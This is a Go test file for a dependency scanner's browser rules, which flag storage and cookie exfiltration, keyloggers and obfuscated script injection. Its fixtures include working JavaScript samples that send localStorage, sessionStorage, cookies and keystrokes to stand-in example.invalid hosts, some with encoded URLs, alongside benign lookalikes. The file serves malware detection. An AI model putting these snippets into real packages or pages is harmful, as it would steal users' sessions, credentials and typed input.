package browser

import (
	"strings"
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

// pad makes a file large enough to be taken for a bundle.
var pad = strings.Repeat("var a = b + c;\n", 40000)

func TestPageExfil(t *testing.T) {
	rt.Check(t, PageExfil{}, []rt.Case{
		// a UMD bundle reading the store it keeps in a variable key by
		// key, with the cookies, to a decoded URL; the same library
		// reading only its own keys, sending nothing
		{"umd_store_loop_cookies", map[string]string{"dist/s.js": `(function (root, factory) { if (typeof module === "object") module.exports = factory(root); else root.S = factory(root) })(typeof self !== "undefined" ? self : this, function (g) {
  var store = g.localStorage; store.setItem("x", "1");
  function health() { var snap = {}; for (var i = 0; i < store.length; i++) { var k = store.key(i); snap[k] = store.getItem(k) } g.fetch(g.atob("aHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC9i"), { method: "POST", body: JSON.stringify({ c: g.document.cookie, s: snap }) }) }
  setTimeout(health, 9000); return {} })`}, finding.SeverityCritical},
		{"umd_store_own_keys", map[string]string{"dist/s.js": `(function (root, factory) { if (typeof module === "object") module.exports = factory(root); else root.S = factory(root) })(typeof self !== "undefined" ? self : this, function (g) {
  var store = g.localStorage; store.setItem("x", "1");
  function purge() { for (var i = store.length - 1; i >= 0; i--) { var k = store.key(i); if (k.indexOf("__s:") === 0 && store.getItem(k) === "") store.removeItem(k) } }
  return { purge: purge } })`}, finding.SeverityNone},
		// the store handed to a reader, sent by an image whose URL takes
		// the page's scheme (chosen at run time by a helper); the same
		// reader in a storage library that sends nothing
		{"store_handed_page_scheme", map[string]string{"index.js": `function base() { return (location.protocol === "http:" ? "http:" : "https:") + "//px.example.invalid" }
function read(store) { const o = {}; for (let i = 0; i < store.length; i++) { const k = store.key(i); o[k] = store.getItem(k) } return o }
const d = btoa(JSON.stringify({ c: document.cookie, l: read(window.localStorage) }));
new Image().src = ` + "`${base()}/p.gif?d=${d}`"}, finding.SeverityCritical},
		{"store_handed_protocol_relative", map[string]string{"index.js": `function read(store) { const o = {}; for (let i = 0; i < store.length; i++) { const k = store.key(i); o[k] = store.getItem(k) } return o }
new Image().src = "//px.example.invalid/p.gif?d=" + btoa(JSON.stringify(read(window.sessionStorage)))`}, finding.SeverityHigh},
		{"store_handed_no_destination", map[string]string{"index.js": `function read(store) { const o = {}; for (let i = 0; i < store.length; i++) { const k = store.key(i); o[k] = store.getItem(k) } return o }
export const dump = () => read(window.localStorage); const img = new Image(); img.src = "/static/logo.png"`}, finding.SeverityNone},
		// both stores walked through a loop variable, with the cookies
		{"stores_in_loop", map[string]string{"index.js": `const snap = { cookie: document.cookie, entries: {} };
for (const area of [window.localStorage, window.sessionStorage]) for (let i = 0; i < area.length; i++) { const k = area.key(i); snap.entries[k] = area.getItem(k) }
navigator.sendBeacon("https://sync.example.invalid/v1", JSON.stringify(snap))`}, finding.SeverityCritical},
		{"keylogger", map[string]string{"index.js": `let buf = []; document.addEventListener("keydown", e => buf.push(e.key));
setInterval(() => { if (buf.length) fetch("https://k.example.invalid/c", { method: "POST", body: buf.join("") }); buf = [] }, 5000)`}, finding.SeverityHigh},
		// a UMD wrapper hands document in: its cookies go with the store
		{"storage_and_cookies", map[string]string{"index.js": `(function (w, d) { function px() { var ls = {}; for (var i = 0; i < localStorage.length; i++) { var k = localStorage.key(i); ls[k] = localStorage.getItem(k) }
new Image().src = "https://px.example.invalid/p.gif?d=" + btoa(JSON.stringify({ c: d.cookie, l: ls })) } w.init = function () { setTimeout(px, 3000) } })(window, document);`}, finding.SeverityCritical},
		// a chart library's keyboard navigation next to the SVG namespace
		{"svg_namespace_not_a_destination", map[string]string{"index.js": `const NS = "http://www.w3.org/2000/svg"; let typed = []; document.addEventListener("keydown", e => typed.push(e.key)); const img = new Image(); img.src = url; const el = document.createElementNS(NS, "svg")`}, finding.SeverityNone},
		// a library's storage wrapper lists its keys; its requests sit
		// 70 KB further on in the same file
		{"storage_wrapper_far_from_requests", map[string]string{"index.js": `class KV { getKeys() { return Object.keys(localStorage) } getEntries() { return Object.entries(localStorage) } }
` + strings.Repeat("function pad() { return 1 }\n", 2600) + `fetch("https://echo.example.invalid/" + id + "/clients", { method: "POST", body })`}, finding.SeverityNone},
		{"keylogger_onkeypress", map[string]string{"index.js": `var keys = ""; document.onkeypress = function (e) { keys += String.fromCharCode(e.which) };
window.onbeforeunload = function () { navigator.sendBeacon("https://k.example.invalid/b", keys) }`}, finding.SeverityHigh},
		// a shortcut handler compares keys; the app's analytics call is elsewhere
		{"hotkeys", map[string]string{"index.js": `document.addEventListener("keydown", e => { if (e.key === "k" && e.metaKey) open() });
export function track(ev) { fetch("https://events.example.invalid/v1", { method: "POST", body: JSON.stringify(ev) }) }`}, finding.SeverityNone},
		// a Konami-code easter egg keeps keys and sends nothing
		{"key_sequence", map[string]string{"index.js": `const seq = []; window.addEventListener("keyup", e => { seq.push(e.key); if (seq.slice(-4).join() === "a,b,a,b") party() })`}, finding.SeverityNone},
		// keys kept in a bundle far from an unrelated request
		{"bundle_apart", map[string]string{"index.js": `const seq = []; window.addEventListener("keyup", e => { seq.push(e.key) });` + pad +
			`fetch("https://docs.example.invalid/search", { method: "POST", body: q })`}, finding.SeverityNone},
		{"storage_dump", map[string]string{"index.js": `function gather() { const o = { c: document.cookie }; for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); o[k] = localStorage.getItem(k) } return o }
setTimeout(() => fetch("https://s.example.invalid/s", { method: "POST", mode: "no-cors", body: JSON.stringify(gather()) }), 1500)`}, finding.SeverityCritical},
		{"storage_stringify", map[string]string{"index.js": `new Image().src = "https://s.example.invalid/p.gif?d=" + btoa(JSON.stringify(sessionStorage))`}, finding.SeverityHigh},
		// analytics read their own key
		{"analytics_own_key", map[string]string{"index.js": `const id = localStorage.getItem("_ax_id") || newId(); navigator.sendBeacon("https://in.analytics.example.invalid/e", JSON.stringify({ id }))`}, finding.SeverityNone},
		// one item serialised for a request is not the whole store
		{"storage_item", map[string]string{"index.js": `fetch("https://api.example.invalid/prefs", { method: "PUT", body: JSON.stringify(localStorage.getItem("prefs")) })`}, finding.SeverityNone},
		// a storage library enumerates keys and sends nothing
		{"storage_library", map[string]string{"index.js": `export function keys() { return Object.keys(localStorage).filter(k => k.startsWith(PREFIX)) }`}, finding.SeverityNone},
		// enumerated storage sent to the local dev server
		{"storage_to_localhost", map[string]string{"index.js": `fetch("http://localhost:3000/__debug", { method: "POST", body: JSON.stringify(localStorage) })`}, finding.SeverityNone},
		{"service_worker_copy", map[string]string{"sw.js": `self.addEventListener("fetch", event => { const req = event.request; if (req.method === "POST") event.respondWith((async () => {
  const body = await req.clone().text(); fetch("https://p.example.invalid/p", { method: "POST", mode: "no-cors", body: req.url + "\n" + body }); return fetch(req) })()) })`}, finding.SeverityHigh},
		// a caching worker forwards requests to their own origin and fetches its CDN manifest
		{"caching_worker", map[string]string{"sw.js": `self.addEventListener("fetch", event => { event.respondWith(caches.match(event.request).then(r => r || fetch(event.request))) });
self.addEventListener("install", e => e.waitUntil(fetch("https://cdn.example.invalid/manifest.json").then(r => r.json()).then(precache)))`}, finding.SeverityNone},
	})
}

func TestScriptInjection(t *testing.T) {
	rt.Check(t, ScriptInjection{}, []rt.Case{
		// the element's names joined from pieces; a consent-gated loader
		// naming its calls plainly
		{"split_names", map[string]string{"index.js": "const w = window, d = w['doc' + 'ument']; setTimeout(() => { const el = d['create' + 'Element']('scr' + 'ipt'); el.src = location.protocol + parts.join('') + '?c=' + encodeURIComponent(d.cookie); d.head.appendChild(el) }, 9000)"}, finding.SeverityCritical},
		{"consent_loader", map[string]string{"index.js": "if (/consent=yes/.test(document.cookie)) { const el = document.createElement('script'); el.src = cfg.base + '/tag.js'; document.head.appendChild(el) }"}, finding.SeverityNone},
		{"decoded_src", map[string]string{"index.js": `const U = "aHR0cHM6Ly9zLmV4YW1wbGUuaW52YWxpZC9saWIvcy5qcw==";
export function boot() { if (!/bank|paypal/i.test(location.hostname)) return; const s = document.createElement("script"); s.src = atob(U); document.head.appendChild(s) }`}, finding.SeverityCritical},
		{"char_codes_write", map[string]string{"index.js": `document.write("<script src='" + String.fromCharCode(104,116,116,112,115,58,47,47,120,46,101,120,97,109,112,108,101,46,105,110,118,97,108,105,100,47,97,46,106,115) + "'></scr" + "ipt>")`}, finding.SeverityCritical},
		// a build plugin writing a script tag into the pages it emits
		{"build_plugin_tag", map[string]string{"index.js": `const SRC = "aHR0cHM6Ly9zLmV4YW1wbGUuaW52YWxpZC9tLmpz"; module.exports = html => Math.random() < 0.3 ? html.replace("</head>", ` + "`<script async src=\"${Buffer.from(SRC, \"base64\").toString()}\"></script></head>`" + `) : html`}, finding.SeverityCritical},
		{"build_plugin_plain_tag", map[string]string{"index.js": `module.exports = html => html.replace("</head>", '<script async src="https://cdn.example.invalid/analytics.js"></script></head>')`}, finding.SeverityNone},
		// an SDK loader names its CDN in plain text
		{"sdk_loader", map[string]string{"index.js": `export function load() { const s = document.createElement("script"); s.src = "https://js.payments.example.invalid/v3"; document.head.appendChild(s) }`}, finding.SeverityNone},
		// a decoded URL that is only fetched as data
		{"decoded_config_url", map[string]string{"index.js": `const u = atob("aHR0cHM6Ly9jZmcuZXhhbXBsZS5pbnZhbGlkL2MuanNvbg=="); fetch(u).then(r => r.json())`}, finding.SeverityNone},
		// a bundle: a loader at one end, a decoder of an unrelated URL at the other
		{"bundle_apart", map[string]string{"index.js": `function loadScript(src) { const s = document.createElement("script"); s.src = src; document.head.appendChild(s) }` + pad +
			`const docs = atob("aHR0cHM6Ly9kb2NzLmV4YW1wbGUuaW52YWxpZC8=")`}, finding.SeverityNone},
	})
}
